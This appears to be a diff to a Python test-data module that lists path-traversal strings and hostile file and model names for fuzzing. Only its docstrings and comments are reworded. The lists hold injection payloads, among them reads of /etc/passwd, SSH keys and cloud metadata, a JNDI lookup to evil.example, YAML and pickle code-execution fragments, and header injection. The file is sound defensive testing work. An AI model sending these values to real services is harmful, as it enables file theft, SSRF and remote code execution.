@@ -1,4 +1,4 @@
-"""Paths and names that turned into holes elsewhere: 300 ways out of a directory, 200 hostile names."""
+"""Hostile paths and names that have caused security holes: 300 paths out of a directory, and 200 names."""
 
 import itertools
 
@@ -10,10 +10,10 @@ CLIMBS = (
     "..%255c",
 )  # fmt: skip
 PATHS = tuple(climb * depth + end for climb, depth, end in itertools.product(CLIMBS, (1, 8), TARGETS))
-"""Encodings of `..`, once and eight times, in front of files that exist on some machine."""
+"""Encodings of `..`, once and eight times, before files that exist on some machines."""
 
 NAMES = (
-    # absolute, of other systems, of other schemes
+    # absolute paths, paths of other systems, other schemes
     "/etc/passwd", "//etc/passwd", "///etc/passwd", "\\\\host\\share", "C:\\boot.ini", "c:/boot.ini",
     "~/.ssh/id_rsa", "~root", "file:///etc/passwd", "file://localhost/etc/passwd",
     "http://169.254.169.254/latest/meta-data", "http://127.0.0.1:1/", "https://evil.example/model",
@@ -23,13 +23,13 @@ NAMES = (
     "http:evil.example", "memory://x", "zip://a::b", "github://x:y@/", "ssh://evil.example/x",
     "smb://evil.example/x", "redis://127.0.0.1:6379", "unix:///var/run/docker.sock",
     "sqlite:////etc/passwd", "postgresql://db/x", "\\\\.\\C:",
-    # of files that exist, and of devices
+    # existing files, and devices
     "pytorch_model.bin", "model.pkl", "model.pt", "evil.py", "config.json", ".env", ".git/config",
     ".ssh/authorized_keys", "grpolab.db", "token", "viewer-token", "run/valkey.sock", "logs/service.log",
     "used-links", "state/token", "../token", "/dev/stdin", "/dev/fd/0", "/dev/zero", "/dev/random",
     "/proc/self/fd/3", "/proc/1/environ", "/sys/kernel", "/tmp", "/var/run/docker.sock", "con", "nul",
     "aux", "CON.txt", "name::$DATA", "backend/service/main.py", "requirements.lock",
-    # nearly a name
+    # almost a name
     ".", "..", "...", "/", "\\", "", " ", "-", "--help", "-rf", "*", "?", "[a]", "{a,b}", "name.",
     "name ", "a" * 300, "a/" * 200, "ä" * 150, "tiny/../../../etc", "tiny/..", "./tiny", "tiny/",
     "tiny//", "tiny\\..", "tiny%2f..", "tiny;x", "tiny#x", "tiny?x", "owner/name/extra", "owner//name",
@@ -44,10 +44,10 @@ NAMES = (
     "javascript:alert(1)", "data:text/html,x", "onerror=", "&lt;", "&#x2e;&#x2e;/",
     "!!python/object/apply:os.system", "c__builtin__\neval\n", "\x80\x04\x95", "rO0ABXNy",
     "${jndi:ldap://evil.example/x}",
-    # strange characters and numbers
+    # unusual characters and numbers
     "\n", "\r\nSet-Cookie: a=b", "\t", "\x1b[2J", "\x7f", "\x00", "a\x00b", "\u202egnp.exe", "\u200b",
     "\ufeff", "e\u0301", "．．", "／", "\ud7ff", "\U0001f600", "ﬁ", "İ", "ß", "\u2028", "\u0085", "\ufffe",
     "true", "null", "NaN", "Infinity", "1e999", "0x10", "9" * 40, "-0", "1_0", "0.1e-400", "1,5", "१",
     "Ⅷ", "0b1", "1e", "+1", "٣", "２", "½",
 )  # fmt: skip
-"""Whatever might be taken for something else than a name."""
+"""Names that could be interpreted as something else."""
